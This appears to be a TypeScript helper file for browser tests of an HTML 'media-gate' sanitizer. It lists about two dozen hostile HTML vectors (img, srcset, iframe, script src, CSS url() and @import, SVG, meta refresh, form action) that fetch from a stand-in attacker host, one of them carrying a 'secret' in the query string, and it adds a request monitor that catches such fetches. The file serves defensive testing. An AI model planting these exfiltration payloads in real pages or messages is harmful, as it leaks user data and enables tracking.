// Shared by the media-gate browser tests: hostile HTML vectors and a request monitor.
import { waitUntil } from '@open-wc/testing';
import { http, HttpResponse } from 'msw';
import { setupWorker } from 'msw/browser';

export const ATTACKER = 'https://attacker.example';
export const ALLOWED = 'https://allowed.example';

// 1x1 transparent PNG.
const PNG = Uint8Array.from(atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII='), (c) => c.charCodeAt(0));

/**
 * Every way we know for HTML to make a request on render. Each carries `ATTACKER` in a
 * URL; `img: true` marks vectors that must become a click-to-load placeholder.
 */
export const VECTORS: readonly { name: string; html: string; img?: boolean }[] = [
  { name: 'img src', html: `<p>hi <img src="${ATTACKER}/p.gif?d=secret" alt="chart"></p>`, img: true },
  { name: 'img without alt', html: `<img src="${ATTACKER}/noalt.png">`, img: true },
  { name: '<image> (parsed as img)', html: `<image src="${ATTACKER}/image-tag.png">`, img: true },
  { name: 'img loading=eager', html: `<img loading="eager" src="${ATTACKER}/eager.png" width="1" height="1">`, img: true },
  { name: 'img srcset', html: `<img srcset="${ATTACKER}/srcset.png 1x, ${ATTACKER}/srcset2.png 2x" src="${ATTACKER}/srcset-src.png">`, img: true },
  { name: 'img lowsrc/dynsrc', html: `<img lowsrc="${ATTACKER}/lowsrc.png" dynsrc="${ATTACKER}/dynsrc.png" src="${ALLOWED}/ok.png">` },
  { name: 'picture/source', html: `<picture><source srcset="${ATTACKER}/picture.webp" type="image/webp"><img src="${ATTACKER}/picture.png"></picture>`, img: true },
  { name: 'video poster/src', html: `<video poster="${ATTACKER}/poster.jpg" src="${ATTACKER}/v.mp4" preload="auto"></video>` },
  { name: 'video source/track', html: `<video><source src="${ATTACKER}/s.mp4"><track default kind="captions" src="${ATTACKER}/t.vtt"></video>` },
  { name: 'audio', html: `<audio src="${ATTACKER}/a.mp3" preload="auto"></audio>` },
  { name: 'object data', html: `<object data="${ATTACKER}/o.swf"></object>` },
  { name: 'embed src', html: `<embed src="${ATTACKER}/e.swf">` },
  { name: 'iframe src', html: `<iframe src="${ATTACKER}/frame.html"></iframe>` },
  { name: 'link prefetch', html: `<link rel="prefetch" href="${ATTACKER}/prefetch">` },
  { name: 'link preconnect/dns-prefetch', html: `<link rel="preconnect" href="${ATTACKER}"><link rel="dns-prefetch" href="${ATTACKER}">` },
  { name: 'link preload/stylesheet', html: `<link rel="preload" as="image" href="${ATTACKER}/preload.png"><link rel="stylesheet" href="${ATTACKER}/s.css">` },
  { name: 'a ping', html: `<a href="https://example.com/" ping="${ATTACKER}/ping">link</a>` },
  { name: 'background attribute', html: `<table background="${ATTACKER}/bg.png"><tr><td background="${ATTACKER}/td.png">x</td></tr></table>` },
  { name: 'style attribute url()', html: `<p style="background:url(${ATTACKER}/css.png)">css</p>` },
  { name: 'style element @import', html: `<style>@import url(${ATTACKER}/i.css); p { background: url(${ATTACKER}/b.png) }</style><p>s</p>` },
  { name: 'input type=image', html: `<input type="image" src="${ATTACKER}/input.png">` },
  { name: 'svg image/use/feImage', html: `<svg><image href="${ATTACKER}/svg.png"></image><use href="${ATTACKER}/u.svg#a"></use><filter><feImage href="${ATTACKER}/fe.png"/></filter></svg>` },
  { name: 'meta refresh / base', html: `<meta http-equiv="refresh" content="0;url=${ATTACKER}/meta"><base href="${ATTACKER}/"><img src="relative.png">` },
  { name: 'script src', html: `<script src="${ATTACKER}/s.js"></script>` },
  { name: 'body background', html: `<body background="${ATTACKER}/body.png"><p>x</p></body>` },
  { name: 'form/button action', html: `<form action="${ATTACKER}/f"><button formaction="${ATTACKER}/fa">x</button></form>` },
];

/** The service-worker request monitor, started once per test file. */
export function useRequestMonitor(): { requests: string[]; reset(): void } {
  const requests: string[] = [];
  const worker = setupWorker(
    http.get(`${ATTACKER}/*`, () => new HttpResponse(PNG, { headers: { 'content-type': 'image/png' } })),
    http.get(`${ALLOWED}/*`, () => new HttpResponse(PNG, { headers: { 'content-type': 'image/png' } })),
    http.all(`${ATTACKER}/*`, () => new HttpResponse(null, { status: 204 })),
  );
  worker.events.on('request:start', ({ request }) => {
    requests.push(request.url);
  });
  before(async () => {
    await worker.start({ quiet: true, serviceWorker: { url: '/mockServiceWorker.js' }, onUnhandledRequest: 'bypass' });
  });
  after(() => worker.stop());
  return {
    requests,
    reset: () => {
      requests.length = 0;
      performance.clearResourceTimings();
    },
  };
}

/** Requests to the attacker's host: seen by the service worker or by Resource Timing. */
export function attackerRequests(requests: readonly string[]): string[] {
  const timed = performance.getEntriesByType('resource').map((e) => e.name);
  return [...requests, ...timed].filter((u) => u.startsWith(ATTACKER));
}

/**
 * Renders an allowed control image next to what is under test and waits for it to load:
 * by then anything the hostile HTML would have fetched on render has been requested.
 */
export async function settleWithControl(container: Element, requests: readonly string[]): Promise<void> {
  const control = document.createElement('img');
  const url = `${ALLOWED}/control-${Math.random().toString(36).slice(2)}.png`;
  control.src = url;
  container.append(control);
  await waitUntil(() => control.complete && requests.includes(url), 'control image requested and loaded', { timeout: 5000 });
  await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
  control.remove();
}

